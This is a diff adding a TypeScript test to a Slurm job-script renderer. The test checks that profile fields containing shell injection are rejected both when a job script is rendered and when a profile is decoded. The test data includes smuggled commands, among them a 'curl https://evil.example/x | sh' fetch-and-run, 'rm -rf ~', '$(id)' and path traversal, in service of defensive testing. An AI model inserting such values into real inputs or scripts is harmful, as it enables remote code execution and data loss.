@@ -13,6 +13,9 @@ import {
   sq,
 } from '../../adapters/slurm/slurmText.js';
 import type { BatchRemoteDeployment } from '../../core/domain/profile.js';
+import * as E from 'fp-ts/lib/Either.js';
+import { ProfileInput } from '../../schema/api/profiles.js';
+import { toIssues } from '../../schema/decode.js';
 
 test('a poll answer: squeue first, sacct for the rest, status files, first word of the state', (t) => {
   const a = parsePoll(
@@ -185,4 +188,29 @@ test('a batch_template is substituted like Template.safe_substitute, then the ru
   );
   t.true(s.includes('# ---- surveyor run block'));
   t.false(s.includes('--exclusive'), 'the template replaces the default preamble');
+});
+
+test('a profile whose data fields could inject into the job script is refused, stored or not', (t) => {
+  const hostile: [Partial<BatchRemoteDeployment>, string][] = [
+    [{ account: 'astro\ncurl https://evil.example/x | sh #' }, 'account'],
+    [{ account: 'astro --exclusive=no' }, 'account'],
+    [{ facility: 'setonix; rm -rf ~' }, 'facility'],
+    [{ remote_user: 'astro$(id)' }, 'remote_user'],
+    [{ home_dir: 'home/astro' }, 'home_dir'],
+    [{ log_dir: '/scratch/../etc' }, 'log_dir'],
+    [{ dlg_root: "/scratch/dlg'; touch /tmp/x; '" }, 'dlg_root'],
+    [{ dlg_root: '/scratch/with space' }, 'dlg_root'],
+  ];
+  for (const [change, field] of hostile) {
+    const d = { ...profile, ...change };
+    t.throws(() => renderJobScript(d, 'surveyor-e-a1'), { message: new RegExp(`profile's ${field}`) }, field);
+    const r = ProfileInput.decode({ name: 'p', translation: {}, deployment: d });
+    t.true(E.isLeft(r), field);
+    if (E.isLeft(r))
+      t.true(
+        toIssues(r.left).some((i) => i.path === `deployment.${field}`),
+        field,
+      );
+  }
+  t.true(E.isRight(ProfileInput.decode({ name: 'p', translation: {}, deployment: profile })));
 });
